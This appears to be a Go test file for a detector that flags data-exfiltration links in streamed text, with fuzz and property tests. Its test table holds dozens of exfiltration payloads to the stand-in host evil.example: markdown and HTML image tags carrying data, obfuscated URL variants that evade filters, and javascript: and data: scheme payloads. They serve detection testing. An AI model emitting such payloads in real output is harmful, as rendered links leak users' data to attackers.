package exfil_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/holdfast-ai/holdfast/guard/detect/exfil"
	"github.com/holdfast-ai/holdfast/guard/stream"
)

func hosts(t testing.TB) *exfil.Hosts {
	t.Helper()
	h, err := exfil.New("docs.example.com", "*.cdn.example.com")
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func find(h *exfil.Hosts, text string) []stream.Match {
	s := h.Start()
	ms, _, _ := s.Write(nil, []byte(text))
	ms, _ = s.Finish(ms)
	return ms
}

// The part between { and } is found under the rule.
var carried = map[string]string{
	"![x]({https://evil.example/?d=SECRET})":                                               exfil.RuleImage,
	"![x]( {https://evil.example/a.png} \"title\")":                                        exfil.RuleImage,
	"![x](<{https://evil.example/a.png}>)":                                                 exfil.RuleImage,
	"![a b [c]]({//evil.example/a.png})":                                                   exfil.RuleImage,
	"![x]({HTTPS://EVIL.example/a.png})":                                                   exfil.RuleImage,
	"![x]({https:\\\\evil.example\\a.png})":                                                exfil.RuleImage,
	"![x]({https:///evil.example/a.png})":                                                  exfil.RuleImage,
	"![x]({https://docs.example.com@evil.example/a.png})":                                  exfil.RuleImage,
	"![x]({https://docs.example.com.evil.example/a.png})":                                  exfil.RuleImage,
	"![x]({https://xcdn.example.com/a.png})":                                               exfil.RuleImage,
	"![x][r]\n\n[r]: {https://evil.example/a.png}":                                         exfil.RuleImage,
	"<img src=\"{https://evil.example/a.png}\">":                                           exfil.RuleImage,
	"<img alt=x\n src={https://evil.example/a.png}>":                                       exfil.RuleImage,
	"<IMG SRCSET='a.png 1x, {https://evil.example/b.png} 2x'>":                             exfil.RuleImage,
	"<td background='{//evil.example/a.png}'>":                                             exfil.RuleImage,
	"<div style=\"background:url({https://evil.example/a.png})\">":                         exfil.RuleImage,
	"<link rel=stylesheet href={https://evil.example/a.css}>":                              exfil.RuleImage,
	"![" + strings.Repeat("a ", 300) + "]({https://evil.example/a.png})":                   exfil.RuleImage,
	"![x](" + strings.Repeat(" ", 600) + "{https://evil.example/a.png})":                   exfil.RuleImage,
	"[![x]({https://evil.example/a.png})](https://go.dev)":                                 exfil.RuleImage,
	"[text](https://go.dev) ![x]({https://evil.example/a.png})":                            exfil.RuleImage,
	"![x]({http:evil.example/a.png})":                                                      exfil.RuleImage,
	"![x]({https:/evil.example/a.png})":                                                    exfil.RuleImage,
	"<img alt=\">\" src=\"{https://evil.example/a.png}\">":                                 exfil.RuleImage,
	"<img alt=\"" + strings.Repeat("a ", 300) + "\" src = '{https://evil.example/a.png}'>": exfil.RuleImage,
	"<svg><image href=\"{https://evil.example/a.png}\"/></svg>":                            exfil.RuleImage,
	"<base href=\"{https://evil.example/}\">":                                              exfil.RuleImage,
	"![x]({https://docs.example.com\\@evil.example/a.png})":                                exfil.RuleImage,
	"![x]({https://docs.example.com\\.evil.example/a.png})":                                exfil.RuleImage,
	"![x]({https\\://evil.example/a.png})":                                                 exfil.RuleImage,
	"![x]({https&colon;//evil.example/a.png})":                                             exfil.RuleImage,
	"![x]({&sol;&sol;evil.example/a.png})":                                                 exfil.RuleImage,
	"![x]({https://docs.example.com&commat;evil.example/a.png})":                           exfil.RuleImage,
	"<img src=\"https://docs.example.com\t{.evil.example/a.png}\">":                        exfil.RuleImage,
	"<img src='https://docs.example.com\n\n{.evil.example/a.png}'>":                        exfil.RuleImage,
	"<p style=\"--a:image-set('{https://evil.example/a.png}' 1x)\">":                       exfil.RuleImage,
	"<meta http-equiv=refresh content='0;url={https://evil.example/}'>":                    exfil.RuleImage,
	"see {www.evil.example/?d=aGVsbG8gd29ybGQgaGVsbG8}":                                    exfil.RuleLink,
	"**{WWW.evil.example/?d=aGVsbG8gd29ybGQgaGVsbG8}":                                      exfil.RuleLink,
	"[click]({https://evil.example/?q=aGVsbG8gd29ybGQgaGVsbG8})":                           exfil.RuleLink,
	"see {https://evil.example/p/c2VjcmV0LWRhdGEtaGVyZS1pcy1sb25n}":                        exfil.RuleLink,
	"<{https://aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8.evil.example/}>":                    exfil.RuleLink,
	"[a]({https://" + strings.Repeat("c2VjcmV0LXRleHQ.", 6) + "evil.example/})":            exfil.RuleLink,
	"[a]({javascript&colon;alert(}1)":                                                      exfil.RuleScheme,
	"[a]({javascript:alert(}1)":                                                            exfil.RuleScheme,
	"[a]({JavaScript:location=x})":                                                         exfil.RuleScheme,
	"<a href=\"{data:text/html;base64}," + "PHNjcmlwdD4\">":                                exfil.RuleScheme,
}

func TestCarried(t *testing.T) {
	h := hosts(t)
	for text, rule := range carried {
		plain := strings.NewReplacer("{", "", "}", "").Replace(text)
		from := strings.Index(text, "{")
		to := strings.Index(text, "}") - 1
		if rule == exfil.RuleScheme { // ends where the word does
			if ms := find(h, plain); len(ms) == 0 || ms[0].Rule != rule || ms[0].Start != from {
				t.Errorf("%s: %+v", plain, ms)
			}
			continue
		}
		if ms := find(h, plain); len(ms) != 1 || ms[0].Rule != rule || ms[0].Start != from || ms[0].End != to {
			t.Errorf("%s: %+v, want %s at %d to %d", plain, ms, rule, from, to)
		}
	}
}

func TestHarmless(t *testing.T) {
	h := hosts(t)
	for _, text := range []string{
		"![x](https://docs.example.com/a.png?d=SECRET)", "![x](https://a.cdn.example.com/b.png)", "<img src=https://DOCS.example.com/x>", "![x](images/a.png)",
		"see https://go.dev/doc and [this](https://pkg.go.dev/net/http#Handler)", "[q](https://search.example/?q=ships)", "a // comment", "x := a//b", "1://2", "http://", "the ratio 3://",
		"see www.go.dev and www.a.cdn.example.com/?q=aGVsbG8gd29ybGQgaGVsbG8", "www.", "http: the protocol", "![x](https://docs.example.com/a.png) and [this](https://go.dev)",
		"[" + strings.Repeat("a ", 300) + "](https://go.dev)",
		"javascript: a language", "data: none", "use <img> tags, e.g. <br>, then https://go.dev", "C:\\\\dir", "[r]: see below", "<p>text</p> https://go.dev",
	} {
		if ms := find(h, text); len(ms) > 0 {
			t.Errorf("%s: %+v", text, ms)
		}
	}
	if _, err := exfil.New(); err != nil {
		t.Error(err)
	}
	for _, bad := range []string{"", "*", "*.", "https://a.example", "a.example/x", "*.*.example", "com", ".example.com"} {
		if _, err := exfil.New(bad); !errors.Is(err, exfil.ErrHost) {
			t.Errorf("%q: %v", bad, err)
		}
	}
}

func TestCutsDoNotMatter(t *testing.T) {
	h := hosts(t)
	var texts []string
	for text := range carried {
		texts = append(texts, strings.NewReplacer("{", "", "}", "").Replace(text))
	}
	slices.Sort(texts)
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(texts), 1, 3).Draw(t, "texts"), "\n")
		want := find(h, text)
		s := h.Start()
		var got []stream.Match
		for rest := text; len(rest) > 0; {
			n := rapid.IntRange(1, min(7, len(rest))).Draw(t, "cut")
			clear := len(text) - len(rest)
			before := len(got)
			var held int
			got, held, _ = s.Write(got, []byte(rest[:n]))
			rest = rest[n:]
			for _, m := range got[before:] {
				if m.Start < clear-maxHeld {
					t.Fatal("late")
				}
			}
			if held > len(text)-len(rest) {
				t.Fatal(held)
			}
		}
		got, _ = s.Finish(got)
		if !slices.Equal(got, want) {
			t.Fatalf("%v, want %v", got, want)
		}
	})
}

const maxHeld = 4096

func FuzzWrite(f *testing.F) {
	for text := range carried {
		f.Add([]byte(text), 5)
	}
	for _, texts := range written {
		for _, text := range texts {
			f.Add([]byte(text), 9)
		}
	}
	f.Add([]byte("[r]: https://evil.example/a.png\n\n!\\u005b`x`] ![a [b](//c.d) ][r]"), 33)
	h := hosts(f)
	f.Fuzz(func(t *testing.T, text []byte, cut int) {
		want := find(h, string(text))
		for _, m := range want {
			if m.Start < 0 || m.End > len(text) || m.Start >= m.End {
				t.Fatal(m)
			}
		}
		cut = min(max(cut, 0), len(text))
		s := h.Start()
		got, held, _ := s.Write(nil, text[:cut])
		for _, m := range got {
			if m.End > cut-held {
				t.Fatal("in what is held")
			}
		}
		got, _, _ = s.Write(got, text[cut:])
		got, _ = s.Finish(got)
		if !slices.Equal(got, want) {
			t.Fatal(got, want)
		}
	})
}
